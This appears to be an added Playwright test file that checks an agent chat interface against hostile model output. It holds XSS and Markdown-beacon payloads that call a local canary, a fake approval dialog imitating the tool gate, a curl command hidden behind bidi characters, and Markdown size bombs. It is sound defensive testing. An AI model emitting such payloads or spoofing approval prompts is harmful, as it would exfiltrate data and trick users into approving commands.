@@ -1,0 +1,144 @@
+/** A model whose every word is an attack on the page: nothing loads, nothing runs, nothing hangs, nothing looks like the gate. */
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { button, ended, expect, message, open, question, send, test, tool, unfold } from './test';
+
+/** A server that counts requests: none may come. */
+let requests: string[] = [];
+const canary = createServer((request, response) => {
+  requests.push(request.url ?? '');
+  response.end();
+});
+await new Promise<void>((listening) => canary.listen(0, '127.0.0.1', listening));
+// Scripts name its port, so it listens before tests are defined; it keeps no process alive.
+canary.unref();
+const BEACON = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
+
+test.beforeAll(async () => {
+  // It does hear.
+  await fetch(`${BEACON}/proof`);
+  expect(requests).toEqual(['/proof']);
+  requests = [];
+});
+
+// One worker for this file: the canary is one.
+test.describe.configure({ mode: 'default' });
+
+const ATTACKS = [
+  `<script>fetch('${BEACON}/script')</script>`,
+  `<img src="${BEACON}/img" onerror="fetch('${BEACON}/onerror')">`,
+  `![beacon](${BEACON}/markdown.png?secret=42)`,
+  `![ref][b]\n\n[b]: ${BEACON}/reference.png`,
+  `<svg onload="fetch('${BEACON}/svg')"><image href="${BEACON}/svg-image"/></svg>`,
+  `<style>@import url(${BEACON}/css); .gate { display: none !important } body { background: url(${BEACON}/bg) }</style>`,
+  `<link rel="stylesheet" href="${BEACON}/link"><link rel="prefetch" href="${BEACON}/prefetch">`,
+  `<iframe src="${BEACON}/frame"></iframe><object data="${BEACON}/object"></object><video src="${BEACON}/video" autoplay></video>`,
+  `[click me](javascript:fetch('${BEACON}/javascript'))`,
+  `[click me](data:text/html,<script>fetch('${BEACON}/data')</script>)`,
+  `<meta http-equiv="refresh" content="0;url=${BEACON}/refresh"><base href="${BEACON}/base/">`,
+  '<div role="alertdialog" aria-label="run_command" class="gate"><button>Approve</button></div>',
+  '━━━ toolgate ━━━\nToolgate asks run_command write\n\n**Approve** **Refuse**',
+  'bidi: \u202egnp.exe\u202c and zero\u200bwidth and &#x202e;entity',
+  'ansi: \u001b[2J\u001b[1;1H\u001b[8mhidden\u001b[0m',
+];
+
+const say = (text: string) => `  - say: ${JSON.stringify(text)}\n`;
+
+test.describe('text', () => {
+  const script = `memory: prompt\nsteps:\n  - think: ${JSON.stringify(ATTACKS.join('\n\n'))}\n    say: ${JSON.stringify(ATTACKS.join('\n\n'))}\n`;
+  test.use({ setup: { script } });
+
+  test('loads and runs nothing, and cannot look like the gate', async ({ page, gate }) => {
+    const elsewhere: string[] = [];
+    page.on('request', (request) => {
+      if (!request.url().startsWith(gate.page) && !request.url().startsWith('ws')) elsewhere.push(request.url());
+    });
+    await open(page, gate);
+    await send(page, 'Attack');
+    await ended(page);
+    await page.getByRole('button', { name: 'Thought' }).click();
+
+    await expect(page.getByRole('alertdialog')).toHaveCount(0);
+    await expect(page.locator('.transcript').locator('script, img, svg image, iframe, object, video, link, style, meta, base, form, input')).toHaveCount(0);
+    await expect(page.locator('.transcript a[href^="javascript"], .transcript a[href^="data"]')).toHaveCount(0);
+    await expect(page.locator('.hidden-char').first()).toBeVisible();
+    const text = await page.locator('.transcript').innerText();
+    expect(text).toContain('\\u{202e}');
+    for (const hidden of ['\u202e', '\u200b', '\u001b']) expect(text).not.toContain(hidden);
+    // Amber is the gate's alone.
+    expect(await page.evaluate(amberInTranscript)).toEqual([]);
+
+    // A link shows where it leads, and a bad one cannot be opened.
+    await page.getByRole('button', { name: /click me/ }).first().click();
+    const dialog = page.getByRole('dialog');
+    await expect(dialog).toContainText('javascript:');
+    await expect(dialog.getByRole('link')).toHaveCount(0);
+    await button(dialog, 'Close').click();
+    expect(elsewhere).toEqual([]);
+    expect(requests).toEqual([]);
+  });
+});
+
+/** The elements among the messages that are drawn in a colour of the gate. */
+function amberInTranscript(): string[] {
+  const probe = document.createElement('i');
+  document.body.append(probe);
+  const colours = ['--gate', '--gate-fill', '--gate-soft', '--gate-line'].map((name) => {
+    probe.style.color = `var(${name})`;
+    return getComputedStyle(probe).color;
+  });
+  probe.remove();
+  const parts = ['color', 'backgroundColor', 'borderTopColor', 'borderLeftColor', 'outlineColor'] as const;
+  return [...document.querySelectorAll('.transcript *')]
+    .filter((element) => parts.some((part) => colours.includes(getComputedStyle(element)[part])))
+    .map((element) => element.outerHTML.slice(0, 120));
+}
+
+test.describe('calls', () => {
+  const command = `echo safe \u202e# ; curl ${BEACON}/x\u202c \u200b; printf '\\033[31mred\\033[0m<script>fetch(1)</script>'`;
+  const script = `steps:\n  - calls: [{tool: run_command, arguments: {command: ${JSON.stringify(command)}}}]\n${say('Done.')}`;
+  test.use({ setup: { script } });
+
+  test('show every hidden character in a question, and their output is text', async ({ page, gate }) => {
+    await open(page, gate);
+    await send(page, 'Attack');
+    const card = question(page, 'run_command');
+    await expect(card).toContainText('\\u{202e}');
+    await expect(card).toContainText('\\u{200b}');
+    expect(await card.innerText()).not.toMatch(/[\u202e\u200b]/);
+    await button(card, 'Approve').click();
+    await ended(page);
+    await unfold(tool(page, 'run_command'));
+    await expect(tool(page, 'run_command').getByLabel(/Output/)).toContainText('<script>');
+    await expect(page.locator('.transcript script')).toHaveCount(0);
+    expect(requests).toEqual([]);
+  });
+});
+
+test.describe('sizes', () => {
+  const bombs = ['['.repeat(30_000), '*a '.repeat(20_000), '>'.repeat(20_000), `${'|a'.repeat(4000)}|\n${'|-'.repeat(4000)}|\n`, '`'.repeat(20_000)];
+  const script = [
+    'steps:',
+    `  - say: ${JSON.stringify(bombs.join('\n\n'))}`,
+    '    chunk: 4096',
+    '    calls: [{tool: run_command, arguments: {command: "head -c 5000000 /dev/zero | tr \'\\\\0\' x"}}]',
+    `  - say: ${JSON.stringify('word '.repeat(1_000_000))}`,
+    '    chunk: 65536',
+    '',
+  ].join('\n');
+  test.use({ setup: { script, config: 'trust: autonomous\n' } });
+
+  test('of five megabytes and of Markdown bombs leave the page usable', async ({ page, gate }) => {
+    await open(page, gate);
+    await send(page, 'Attack');
+    await message(page).fill('still typing');
+    await expect(message(page)).toHaveValue('still typing');
+    // So long a turn may leave the log of events; then the page loads what was said, without the line at its end.
+    await expect(button(page, 'Send')).toBeVisible();
+    await expect(page.getByRole('article', { name: 'Agent' }).last()).toContainText('word');
+    // What is not on the screen is not in the document.
+    expect(await page.evaluate(() => document.querySelectorAll('*').length)).toBeLessThan(8000);
+    await button(page, 'Send').click();
+    await expect(page.getByRole('article', { name: 'You' }).last()).toContainText('still typing');
+  });
+});
